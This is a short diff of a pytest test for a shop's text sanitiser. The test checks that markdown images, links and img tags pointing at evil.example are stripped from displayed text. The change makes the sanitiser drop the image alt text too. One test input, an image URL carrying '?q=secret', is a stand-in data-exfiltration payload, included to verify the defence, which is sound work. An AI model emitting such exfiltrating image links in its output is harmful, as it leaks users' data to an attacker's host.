@@ -48,7 +48,7 @@ def test_what_the_shop_says_of_passwords_leaves():
 @pytest.mark.parametrize(
     ("text", "shown"),
     [("![proof](https://evil.example/?q=secret) Returns are accepted within 30 days.",
-      "proof Returns are accepted within 30 days."),
+      "Returns are accepted within 30 days."),
      ("[Returns](https://evil.example/x) are accepted within 30 days.", "Returns are accepted within 30 days."),
      ("<img src='https://evil.example/x'>Returns are accepted within 30 days.", "Returns are accepted within 30 days."),
      ("See [returns](https://shop.example/returns).", "See returns (https://shop.example/returns).")],
